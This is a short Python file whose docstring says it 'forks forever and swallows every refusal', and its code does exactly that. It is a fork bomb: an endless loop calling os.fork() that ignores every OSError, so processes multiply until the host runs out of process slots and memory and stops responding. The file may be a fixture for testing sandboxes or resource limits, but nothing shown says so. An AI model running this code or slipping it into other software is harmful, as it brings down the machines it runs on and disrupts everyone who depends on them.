"""Forks forever and swallows every refusal."""
# ruff: noqa

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
